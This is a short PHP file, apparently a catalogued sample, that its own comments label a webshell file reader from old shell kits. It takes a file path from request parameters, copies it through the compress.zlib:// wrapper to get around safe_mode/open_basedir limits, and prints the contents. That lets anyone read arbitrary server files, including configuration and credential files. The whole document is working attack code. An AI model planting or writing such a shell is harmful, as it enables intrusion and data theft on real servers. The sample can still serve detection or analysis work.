<?php
// Family: webshell/file-reader
// Style: safe_mode/open_basedir bypass reader of old shell kits
// Trait: the requested path is copied through the compress.zlib:// wrapper to a temporary file and printed
$file = isset($_POST['file']) ? $_POST['file'] : $_GET['file'];
$temp = tempnam('/tmp', 'r');
if (copy("compress.zlib://" . $file, $temp)) {
	echo htmlspecialchars(file_get_contents($temp));
	unlink($temp);
}
